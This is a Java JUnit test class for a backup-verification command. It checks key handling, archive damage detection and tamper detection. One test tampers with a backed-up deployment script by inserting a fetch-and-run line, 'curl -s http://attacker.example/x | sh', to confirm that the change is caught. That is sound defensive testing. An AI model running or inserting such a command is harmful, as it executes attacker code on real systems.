package dev.sepia.server.backup;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.sepia.crypto.InsecureKeyAccess;
import dev.sepia.crypto.KeyShare;
import dev.sepia.crypto.MasterKeyExport;
import dev.sepia.crypto.MasterKeyShares;
import dev.sepia.crypto.SymmetricKey;
import dev.sepia.server.store.DatabaseKind;
import dev.sepia.server.store.catalogue.EncryptedFieldCatalogue;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** verify-backup: exit 0 only for a backup that restores with every value opening. */
class VerifyBackupCommandTest {
  private static final String PASSPHRASE = "correct horse battery staple";

  @TempDir static Path shared;
  static BackupFixture source;
  static Path backup;
  static Path passphraseFile;

  @TempDir Path temp;

  @BeforeAll
  static void backUpAPopulatedServer() throws Exception {
    source = BackupFixture.populated(shared, DatabaseKind.H2, running -> {});
    passphraseFile = Files.writeString(shared.resolve("passphrase.txt"), PASSPHRASE + "\n");
    backup = shared.resolve("with-key.zip");
    BackupFixture.must(
        source.sourceEnv,
        "backup",
        "--file",
        backup.toString(),
        "--includeMasterKey",
        "--passphraseFile",
        passphraseFile.toString(),
        "--instance",
        BackupFixture.SOURCE_INSTANCE);
  }

  /** verify-backup on a machine with no instance of its own. */
  private BackupFixture.Run verify(Path file, String... keyArgs) {
    String[] args = new String[3 + keyArgs.length];
    args[0] = "verify-backup";
    args[1] = "--file";
    args[2] = file.toString();
    System.arraycopy(keyArgs, 0, args, 3, keyArgs.length);
    BackupFixture.Run run =
        BackupFixture.run(Map.of("SEPIA_MACHINE_DIR", temp.resolve("other").toString()), args);
    assertThat(run.out() + run.err())
        .doesNotContain(source.sourceKeyBase64())
        .doesNotContain(PASSPHRASE)
        .doesNotContain("secret-" + BackupFixture.MARK);
    return run;
  }

  @Test
  void goodBackup_passesWithTheKeyGivenAsAnArgument() {
    BackupFixture.Run run = verify(backup, "--masterKey", source.sourceKeyBase64());
    assertThat(run.exit()).as(run.toString()).isZero();
    assertThat(run.out())
        .contains("OK: the backup restores and every one of its")
        .contains("master key id " + source.sourceKey().keyId());
    for (var field : EncryptedFieldCatalogue.all()) {
      assertThat(run.out()).containsPattern(field + "\\s+[1-9]\\d* / 0\\s+ok");
    }
  }

  @Test
  void goodBackup_passesWithTheEscrowedKey_threeOfFiveSharesOrTheExportedFile() throws Exception {
    List<KeyShare> shares = MasterKeyShares.split(source.sourceKey(), 5, 3);
    BackupFixture.Run fromShares =
        verify(
            backup,
            "--masterKeyShares",
            shares.get(0).toLine(),
            "--masterKeyShares",
            shares.get(2).toLine(),
            "--masterKeyShares",
            shares.get(4).toLine());
    assertThat(fromShares.exit()).as(fromShares.toString()).isZero();
    assertThat(fromShares.out()).contains("OK:");

    Path exported = temp.resolve("master-key.export");
    Files.write(exported, MasterKeyExport.seal(source.sourceKey(), "export words".toCharArray()));
    Path exportPassphrase = Files.writeString(temp.resolve("export.pass"), "export words\n");
    BackupFixture.Run fromFile =
        verify(
            backup,
            "--masterKeyFile",
            exported.toString(),
            "--passphraseFile",
            exportPassphrase.toString());
    assertThat(fromFile.exit()).as(fromFile.toString()).isZero();

    BackupFixture.Run tooFew =
        verify(
            backup,
            "--masterKeyShares",
            shares.get(0).toLine(),
            "--masterKeyShares",
            shares.get(1).toLine());
    assertThat(tooFew.exit()).isNotZero();
    assertThat(tooFew.err()).contains("3 shares are needed, 2 were given");
  }

  @Test
  void goodBackup_passesWithThePassphraseOfTheIncludedKey() {
    BackupFixture.Run run = verify(backup, "--passphraseFile", passphraseFile.toString());
    assertThat(run.exit()).as(run.toString()).isZero();
    assertThat(run.out()).contains("OK:");
  }

  @Test
  void goodBackup_passesWithTheInstancesOwnKey() {
    BackupFixture.Run run =
        BackupFixture.run(
            source.sourceEnv,
            "verify-backup",
            "--file",
            backup.toString(),
            "--instance",
            BackupFixture.SOURCE_INSTANCE);
    assertThat(run.exit()).as(run.toString()).isZero();
    assertThat(run.out()).contains("OK:");
  }

  @Test
  void goodBackup_reportsCountsAsJson() throws Exception {
    BackupFixture.Run run =
        verify(backup, "--masterKey", source.sourceKeyBase64(), "--format", "json");
    assertThat(run.exit()).as(run.toString()).isZero();
    JsonNode report = new ObjectMapper().readTree(run.out());
    assertThat(report.get("ok").asBoolean()).isTrue();
    assertThat(report.get("values")).hasSize(EncryptedFieldCatalogue.all().size());
    for (JsonNode value : report.get("values")) {
      assertThat(value.get("opened").asLong()).as(value.toString()).isPositive();
      assertThat(value.get("failed").asLong()).isZero();
    }
    for (JsonNode table : report.get("tables")) {
      assertThat(table.get("restored").asLong()).isEqualTo(table.get("expected").asLong());
    }
  }

  @Test
  void wrongKey_failsNamingBothKeyIds() {
    SymmetricKey wrong = SymmetricKey.generate();
    BackupFixture.Run run = verify(backup, "--masterKey", InsecureKeyAccess.toBase64(wrong));
    assertThat(run.exit()).isEqualTo(1);
    assertThat(run.err())
        .contains(
            "The key (id "
                + wrong.keyId()
                + ") does not open this backup; it was made with key id "
                + source.sourceKey().keyId());
  }

  @Test
  void wrongPassphrase_fails() {
    Map<String, String> env = new HashMap<>();
    env.put("SEPIA_MACHINE_DIR", temp.resolve("other").toString());
    env.put("BACKUP_PASSPHRASE", "not the passphrase");
    BackupFixture.Run run =
        BackupFixture.run(
            env,
            "verify-backup",
            "--file",
            backup.toString(),
            "--passphraseEnv",
            "BACKUP_PASSPHRASE");
    assertThat(run.exit()).isEqualTo(1);
    assertThat(run.err())
        .contains("The passphrase does not open the master key included in the backup");
  }

  @Test
  void flippedByteInsideACompressedTable_failsNamingTheEntry() throws Exception {
    Path damaged =
        ArchiveDamage.flipInside(
            backup, "database/deployment_steps.jsonl", temp.resolve("flipped.zip"));
    BackupFixture.Run run = verify(damaged, "--masterKey", source.sourceKeyBase64());
    assertThat(run.exit()).isEqualTo(1);
    assertThat(run.err())
        .contains("entry database/deployment_steps.jsonl is damaged (checksum mismatch)");
  }

  @Test
  void flippedByteInsideTheManifest_failsNamingTheManifest() throws Exception {
    Path damaged = ArchiveDamage.flipInside(backup, "manifest.json", temp.resolve("flipped.zip"));
    BackupFixture.Run run = verify(damaged, "--masterKey", source.sourceKeyBase64());
    assertThat(run.exit()).isEqualTo(1);
    assertThat(run.err()).contains("entry manifest.json is damaged (checksum mismatch)");
  }

  @Test
  void aScriptChangedWithItsChecksumRecomputed_isRefusedAsChanged() throws Exception {
    Path changed =
        ArchiveDamage.editedAndResummed(
            backup,
            "database/deployment_steps.jsonl",
            rows -> rows.replace("echo ", "curl -s http://attacker.example/x | sh; echo "),
            temp.resolve("changed.zip"));
    BackupFixture.Run run = verify(changed, "--masterKey", source.sourceKeyBase64());
    assertThat(run.exit()).isEqualTo(1);
    assertThat(run.err())
        .contains("was changed after it was written")
        .contains("does not match the tag made with master key id " + source.sourceKey().keyId());
  }

  @Test
  void aBackupWithoutItsTag_isRefusedAsChanged() throws Exception {
    Path untagged =
        ArchiveDamage.without(backup, BackupManifest.TAG_ENTRY, temp.resolve("untagged.zip"));
    BackupFixture.Run run = verify(untagged, "--masterKey", source.sourceKeyBase64());
    assertThat(run.exit()).isEqualTo(1);
    assertThat(run.err())
        .contains("was changed after it was written (its manifest.tag is missing)");
  }

  @Test
  void truncatedArchive_failsSayingSo() throws Exception {
    Path cut = ArchiveDamage.truncate(backup, temp.resolve("cut.zip"));
    BackupFixture.Run run = verify(cut, "--masterKey", source.sourceKeyBase64());
    assertThat(run.exit()).isEqualTo(1);
    assertThat(run.err()).contains("is truncated or is not a Sepia backup");
  }

  @Test
  void damagedArchive_asJson_saysWhyWithExitCode1() throws Exception {
    Path cut = ArchiveDamage.truncate(backup, temp.resolve("cut.zip"));
    BackupFixture.Run run =
        verify(cut, "--masterKey", source.sourceKeyBase64(), "--format", "json");
    assertThat(run.exit()).isEqualTo(1);
    JsonNode body = new ObjectMapper().readTree(run.out());
    assertThat(body.get("ok").asBoolean()).isFalse();
    assertThat(body.get("error").asText()).contains("truncated or is not a Sepia backup");
  }

  @Test
  void noKeyAtAll_isBadUsage() throws Exception {
    Path withoutKey = shared.resolve("without-key-" + System.nanoTime() + ".zip");
    BackupFixture.must(
        source.sourceEnv,
        "backup",
        "--file",
        withoutKey.toString(),
        "--instance",
        BackupFixture.SOURCE_INSTANCE);
    BackupFixture.Run run = verify(withoutKey);
    assertThat(run.exit()).isEqualTo(2);
    assertThat(run.err()).contains("--masterKey");
  }
}
